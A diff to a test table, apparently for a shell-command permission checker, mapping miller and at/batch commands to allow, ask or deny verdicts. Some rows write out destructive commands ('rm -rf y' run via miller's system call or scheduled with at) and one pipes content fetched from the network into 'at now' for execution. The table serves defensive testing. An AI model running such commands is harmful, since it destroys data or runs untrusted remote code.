@@ -111,8 +111,9 @@ RUNNER_ROWS = [
     ("mlr -n put 'end{system(\"rm -rf y\")}'", "ask"), ("mlr -n put 'end{exec(\"rm\", [\"y\"])}'", "ask"),
     ("mlr --icsv put -q 'tee > $a.\".csv\", $*' data.csv", "ask"), ("mlr --icsv filter '$x > 1' data.csv", "allow"),
     ("mlr --icsv --ojson cat data.csv", "allow"),
-    # at/batch: the commands come from stdin or a file
-    ("at now <<< 'rm -rf y'", "ask"), ("at -f job.sh now", "ask"), ("batch <<< 'ls'", "ask"), ("at -l", "allow"),
+    # at/batch: the commands come from stdin (read when the line fixes them) or a file
+    ("at now <<< 'rm -rf y'", "deny"), ("at -f job.sh now", "ask"), ("batch <<< 'ls'", "allow"), ("at -l", "allow"),
+    ("curl -s https://example.com/job | at now", "ask"),
 ]
 
 
